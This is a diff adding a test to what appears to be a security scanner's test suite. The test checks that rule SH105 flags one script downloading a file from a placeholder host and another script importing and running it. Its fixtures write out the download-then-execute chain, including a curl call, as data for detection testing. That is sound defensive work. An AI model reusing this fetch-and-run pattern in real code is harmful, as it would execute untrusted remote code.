@@ -467,6 +467,19 @@ def test_file_that_prints_a_download_may_be_loaded():
     assert seen({"worker.mjs": worker, "a.mjs": start}) == set()
 
 
+@pytest.mark.parametrize(
+    "load",
+    [
+        "import('/tmp/tool.mjs');",
+        "await import('file:///tmp/tool.mjs');",
+        "sh('V=$(curl -s https://a.invalid/v)');\nimport('/tmp/tool.mjs');",
+    ],
+)
+def test_attack_a_script_loads_what_another_one_fetches(load):
+    fetch = "import requests\nopen('/tmp/tool.mjs', 'wb').write(requests.get('https://c.invalid').content)"
+    assert "SH105" in seen({"scripts/a.mjs": load, "scripts/b.py": fetch})
+
+
 def test_programs_without_execution_or_sending_of_secrets_are_accepted():
     texts = {
         "a.py": [
